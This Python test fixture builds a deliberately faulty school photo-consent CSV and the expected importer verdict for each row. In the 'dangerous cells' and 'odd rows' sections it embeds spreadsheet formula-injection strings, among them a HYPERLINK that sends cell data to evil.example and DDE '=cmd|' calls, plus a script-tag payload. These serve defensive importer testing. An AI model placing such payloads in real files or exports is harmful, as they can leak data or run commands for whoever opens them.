"""A list typed by hand in which everything goes wrong, and what an importer must say of each row."""

from collections import Counter
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from tests.rolls.numbers import make_upn, with_wrong_letter
from tests.rolls.paper import write, write_json
from tests.rolls.roster import OUR_SCHOOL

HEADER = [
    "Adno",
    "UPN",
    "Legal Surname",
    "Legal Forename",
    "DOB",
    "Year Group",
    "Reg Group",
    "Photo Website",
    "Photo Social Media",
    "Photo Press",
    "Notes",
]
BORN = "12/03/2019"
OUTCOMES = {
    "ok": "imported, nothing to report beyond tidying",
    "warn": "imported, reported",
    "ask": "held for a person; no consent counts as granted until answered",
    "reject": "not imported, reported with line and reason",
    "skip": "no pupil row; counted",
}
FILE_RULES = [
    "the importer must not crash, hang, or stop at the first bad row",
    "every row of the file is accounted for: ok + warn + ask + reject + skip = number of records",
    "line = first physical line of the record, counting \\n, from 1",
]
FORMULA_WITH_LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ONE_MEGABYTE = "N" * 1_048_576


def write_errors(path: Path) -> None:
    """The list and, row by row, what must be said of it."""
    paper = _Paper()
    paper.plain('"Larkmoor Primary School - consent return (typed up by hand)"')
    paper.plain("")
    paper.plain("Pupil,,,,,,,Consents,,,Other")
    paper.plain(",".join(HEADER))
    for write_some in (
        _names_and_twins,
        _dates,
        _consents,
        _dangerous_cells,
        _upns,
        _years,
        _odd_rows,
        _the_end,
    ):
        write_some(paper)
    write(path, paper.bytes() + b"\r\n\r\n")
    write_json(path.with_suffix(".expected.json"), paper.expected(path.name))


class _Paper:
    """Rows as bytes, with the physical line each begins on."""

    def __init__(self) -> None:
        self.written: list[bytes] = []
        self.line = 1
        self.rows: list[dict[str, Any]] = []

    def plain(self, text: str) -> None:
        self._add((text + "\r\n").encode("cp1252"))

    def _add(self, data: bytes) -> int:
        self.written.append(data)
        first_line = self.line
        self.line += data.count(b"\n")
        return first_line

    def pupil(
        self,
        number: int,
        surname: str,
        forename: str,
        outcome: str,
        codes: Sequence[str] = (),
        field: str = "",
        why: str = "",
        **cells: Any,
    ) -> None:
        """A row of a pupil; `cells` differ from a clean one, `raw` are the bytes where no cell will do."""
        imported, raw = cells.pop("imported", None), cells.pop("raw", None)
        row = _clean_row(number, surname, forename) | cells
        texts = [str(cell) for cell in row.values()]
        adno = f"{number:06d}" if raw else texts[0]
        self.record(raw or _as_line(texts), adno, outcome, codes, field, why, imported)

    def record(
        self,
        data: bytes,
        adno: str | None,
        outcome: str,
        codes: Sequence[str] = (),
        field: str = "",
        why: str = "",
        imported: dict[str, str] | None = None,
    ) -> None:
        row: dict[str, Any] = {"line": self._add(data), "lines": data.count(b"\n"), "admission_number": adno}
        row |= {"outcome": outcome, "codes": list(codes)}
        row |= {"field": field} if field else {}
        row |= {"imported": imported} if imported else {}
        row |= {"why": why} if why else {}
        self.rows.append(row)

    def bytes(self) -> bytes:
        return b"".join(self.written)

    def expected(self, name: str) -> dict[str, Any]:
        return {
            "file": name,
            "encoding": "cp1252",
            "header_line": 4,
            "title_lines": [1, 2, 3],
            "merged_header_line": 3,
            "outcomes": OUTCOMES,
            "counts": dict(Counter(row["outcome"] for row in self.rows)),
            "file_rules": FILE_RULES,
            "rows": self.rows,
        }


def _upn(number: int) -> str:
    return make_upn(*OUR_SCHOOL, 21, 600 + number)


def _clean_row(number: int, surname: str, forename: str) -> dict[str, str]:
    """A row with nothing wrong; number 8001 has the first UPN."""
    return {
        "adno": f"{number:06d}",
        "upn": _upn(number - 8000),
        "surname": surname,
        "forename": forename,
        "born": BORN,
        "year": "Year 3",
        "reg": "3A",
        "website": "Y",
        "social": "Y",
        "press": "Y",
        "notes": "",
    }


def _as_line(cells: Sequence[str]) -> bytes:
    return (",".join(_quoted(cell) for cell in cells) + "\r\n").encode("cp1252")


def _quoted(cell: str) -> str:
    if any(mark in cell for mark in ',"\n\r'):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def _broken(number: int, before: bytes, after: str) -> bytes:
    """A row as bytes: number and UPN, something no program would write, the rest."""
    return f"{number:06d},{_upn(number - 8000)},".encode() + before + after.encode() + b"\r\n"


def _names_and_twins(paper: _Paper) -> None:
    row = paper.pupil
    row(8001, "Aldous", "Petra", "ok", why="a clean row", press="N")
    row(8002, "", "Kieron", "reject", ["missing_surname"], "Legal Surname")
    row(8003, "Brockbank", "", "reject", ["missing_forename"], "Legal Forename")
    same = "same UPN as 008005, another child"
    row(8004, "Cardew", "Imran", "ask", ["duplicate_upn"], "UPN", same, social="N", press="N")
    other = {"upn": _upn(4), "born": "03/09/2018", "reg": "3B"}
    row(8005, "Dunphy", "Rosalind", "ask", ["duplicate_upn"], "UPN", **other)
    again = "the first row again, word for word"
    row(8001, "Aldous", "Petra", "skip", ["duplicate_row"], why=again, press="N")


def _dates(paper: _Paper) -> None:
    row = paper.pupil
    row(8006, "Eames", "Cordelia", "reject", ["bad_date"], "DOB", born="31/02/2019")
    row(8007, "Farrant", "Nikolai", "reject", ["bad_date"], "DOB", "2019 was no leap year", born="29/02/2019")
    row(8008, "Gedling", "Saskia", "reject", ["date_in_future"], "DOB", born="14/11/2031")
    row(8009, "Holliday", "Ezra", "reject", ["date_out_of_range"], "DOB", born="05/06/1919")
    row(
        8010,
        "Ibbs",
        "Juno",
        "reject",
        ["bad_date"],
        "DOB",
        "month first: not to be guessed",
        born="03/25/2019",
    )
    serial = "serial number for 12/03/2019: propose, do not take"
    row(8011, "Jagger", "Otis", "ask", ["excel_serial_date"], "DOB", serial, born="43536")
    row(8012, "Kettle", "Romy", "reject", ["bad_date"], "DOB", born="tbc")


def _consents(paper: _Paper) -> None:
    row = paper.pupil
    unknown, website = ["unknown_consent_word"], "Photo Website"
    never = "an unknown word is never 'granted'"
    not_granted = {website: "not granted"}
    row(8013, "Lomax", "Idris", "ask", unknown, website, never, website="maybe", imported=not_granted)
    row(
        8014,
        "Mottram",
        "Wren",
        "ask",
        ["conditional_consent", *unknown],
        website,
        "three cells for a person to read",
        website="Yes - but not Facebook",
        social="see file",
        press="ask mum",
        imported=dict.fromkeys(HEADER[7:10], "not granted"),
    )
    harmless = "harmless spellings of yes"
    row(8015, "Norcross", "Piers", "ok", ["whitespace_tidied"], why=harmless, social="y", press="yes ")
    tick = "X can mean a tick or a cross"
    crossed = {"social": "N", "press": "X", "imported": {"Photo Press": "not granted"}}
    row(8016, "Oakden", "Suri", "ask", unknown, "Photo Press", tick, **crossed)


def _dangerous_cells(paper: _Paper) -> None:
    row = paper.pupil
    slipped = "a comma in the surname without quotes: twelve fields, everything after it has slipped by one"
    raw = _broken(8017, b"Pym, Jr,", f"Lucian,{BORN},Year 3,3A,Y,Y,Y,")
    row(8017, "", "", "reject", ["extra_field"], why=slipped, raw=raw)
    short = "the row breaks off after the class: no consents"
    raw = _broken(8018, b"Quayle,", f"Mabli,{BORN},Year 3,3A")
    row(8018, "", "", "reject", ["missing_field"], why=short, raw=raw)
    never_run = "text, never run; must leave the system in a harmless form in every export"
    row(8019, "Rudge", FORMULA_WITH_LINK, "ask", ["formula_cell"], "Legal Forename", never_run)
    formula, notes = ["formula_cell"], "Notes"
    row(8020, "Sayce", "Bram", "warn", formula, notes, notes="=cmd|'/C calc'!A0")
    phone = "a telephone number begins with + and is no formula; still to be made harmless on export"
    row(8021, "Tarbuck", "Lark", "ok", [], notes, phone, notes="+44 7700 900321")
    row(8022, "Udall", "Fenn", "warn", formula, notes, notes="@SUM(1+1)*cmd|' /C calc'!A0")
    tab = [*formula, "control_character"]
    row(8023, "Venning", "Isolde", "warn", tab, notes, "tab before the formula", notes="\t-2+3+cmd")
    cut = "a cell of exactly 1 MiB: cut or leave out, do not stop, do not show it whole"
    row(8024, "Wadsley", "Tamar", "warn", ["oversize_cell"], notes, cut, notes=ONE_MEGABYTE)
    raw = _broken(8025, b"Yar\x00wood,", f"Corin,{BORN},Year 3,3A,Y,Y,Y,")
    row(8025, "", "", "reject", ["nul_byte"], "Legal Surname", "NUL inside the name", raw=raw)
    disk = "a run of NUL bytes, as a broken disk leaves it"
    paper.record(b"\x00" * 64 + b"\r\n", None, "reject", ["nul_byte"], why=disk)


def _upns(paper: _Paper) -> None:
    row = paper.pupil
    keep = "keep the pupil, do not match on this UPN"
    wrong, short, letter = with_wrong_letter(_upn(26)), _upn(27)[:-1], _upn(28).replace("0", "O", 1)
    row(8026, "Ziegler", "Anouk", "warn", ["upn_bad_check_letter"], "UPN", keep, upn=wrong)
    row(8027, "Ainscough", "Bodhi", "warn", ["upn_bad_length"], "UPN", upn=short)
    row(8028, "Bickerstaff", "Calla", "warn", ["upn_bad_character"], "UPN", "letter O for zero", upn=letter)
    row(8029, "Clitheroe", "Dara", "ok", ["upn_tidied"], "UPN", upn=f" {_upn(29).lower()} ")
    row(8030, "Duckett", "Elowen", "warn", ["upn_missing"], "UPN", upn="")


def _years(paper: _Paper) -> None:
    row = paper.pupil
    row(8031, "Emsley", "Fitz", "reject", ["unknown_year"], "Year Group", year="Year 15", reg="15A")
    mismatch, why = ["year_class_mismatch", "year_dob_mismatch"], "class and date of birth say Year 3"
    row(8032, "Fishwick", "Gaia", "ask", mismatch, "Year Group", why, year="Year 5", reg="3B")
    row(8033, "Grimshaw", "Hebe", "warn", ["missing_class"], "Reg Group", reg="")


def _odd_rows(paper: _Paper) -> None:
    row = paper.pupil
    paper.record(b",,,,,,,,,,\r\n", None, "skip", ["blank_row"])
    paper.record((",".join(HEADER) + "\r\n").encode(), None, "skip", ["repeated_header"])
    row(8034, "Hesketh", "<script>alert(1)</script>", "ask", ["markup_in_cell"], "Legal Forename")
    row(8035, "Ince" * 90, "Ivo", "reject", ["overlong_name"], "Legal Surname", "360 characters")
    rest = f",{BORN},Year 3,3A,Y,Y,Y,"
    other = "UTF-8 bytes in a cp1252 file: reads ZoÃ«"
    raw = _broken(8036, b"Jepson,", f"Zoë{rest}")
    row(8036, "", "", "ask", ["mojibake"], "Legal Forename", other, raw=raw)
    nothing = "byte 0x9D means nothing in cp1252"
    raw = _broken(8037, b"Kirk\x9dham,", f"Lyra{rest}")
    row(8037, "", "", "ask", ["bad_encoding"], "Legal Surname", nothing, raw=raw)
    both = ["name_in_one_cell", "missing_forename"]
    row(8038, "LEIGHTON, Mungo", "", "ask", both, "Legal Surname")
    real, letter = "a real surname, not an empty value", "one letter is a whole surname"
    row(8039, "Null", "Maisie", "ok", [], "Legal Surname", real)
    row(8040, "O", "Seo-yeon", "ok", [], "Legal Surname", letter)


def _the_end(paper: _Paper) -> None:
    row = paper.pupil
    twin = "twin of the next row: same surname, same date of birth, no duplicate"
    row(8041, "Mellor", "Nell", "ok", why=twin, born="24/04/2019")
    row(8042, "Mellor", "Jem", "ok", born="24/04/2019")
    double, same = (
        ["possible_duplicate_person"],
        "same name, date of birth and class as the next row, other UPN",
    )
    row(8043, "Ormondroyd", "Blythe", "ask", double, why=same)
    row(8044, "Ormondroyd", "Blythe", "ask", double, social="N")
    broken = "a quoted cell with a line break: one record on two lines"
    row(8045, "Pilling", "Rafe", "ok", [], "Notes", broken, notes="first line\r\nsecond line")
    number, taken = ["duplicate_admission_number"], "number of the row before"
    row(8045, "Rawcliffe", "Sunniva", "ask", number, "Adno", taken, upn=_upn(46))
    upn = "can be matched on the UPN"
    row(8047, "Stott", "Torin", "warn", ["missing_admission_number"], "Adno", upn, adno="")
    paper.record(b"Total pupils: 47\r\n", None, "skip", ["footer_row"])


def write_unclosed_quote(path: Path) -> None:
    """A quote that opens on line 3 and never closes."""
    lines = [
        ",".join(HEADER),
        f"009001,{_upn(51)},Tetlow,Una,{BORN},Year 3,3A,Y,Y,Y,",
        f'009002,{_upn(52)},"Unsworth,Vivi,{BORN},Year 3,3A,Y,Y,Y,',
        f"009003,{_upn(53)},Walsh,Xan,{BORN},Year 3,3A,N,N,N,",
        f"009004,{_upn(54)},Yates,Zuri,{BORN},Year 3,3A,N,N,N,",
    ]
    write(path, "\r\n".join(lines) + "\r\n")
    write_json(
        path.with_suffix(".expected.json"),
        {
            "file": path.name,
            "outcome": "report_file_problem",
            "codes": ["unclosed_quote"],
            "line": 3,
            "why": "A quote opened on line 3 never closes. Line 2 may be imported; lines 3 to 5 must be "
            "reported as unread, not swallowed into one surname, and no pupil of lines 3 to 5 may be "
            "taken for a leaver.",
            "safe_rows": [2],
            "unread_lines": [3, 4, 5],
        },
    )
